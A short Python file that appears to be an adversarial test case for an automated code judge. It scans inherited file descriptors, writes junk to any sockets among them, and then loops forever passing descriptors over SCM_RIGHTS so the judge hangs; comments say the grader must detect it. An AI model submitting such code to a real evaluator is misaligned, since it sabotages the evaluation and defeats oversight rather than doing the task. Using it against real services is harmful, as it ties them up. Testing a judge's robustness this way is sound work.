"""Tries to hold the judge up for ever by mailing it the pipe for last words; must be told."""
# ends: not an answer
# bare: same

import array
import os
import socket


def f(secret, port, victim):
    ours = [number for number in range(3, 64) if is_open(number)]
    streams = [socket.socket(fileno=number) for number in ours if is_socket(number)]
    for stream in streams:
        stream.send(b"?????")  # the judge reads no further, and what is mailed now stays open
    while True:
        for stream in streams:
            rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", ours))
            stream.sendmsg([b"?"], [rights])


def is_open(number):
    try:
        return bool(os.fstat(number))
    except OSError:
        return False


def is_socket(number):
    return os.fstat(number).st_mode & 0o170000 == 0o140000
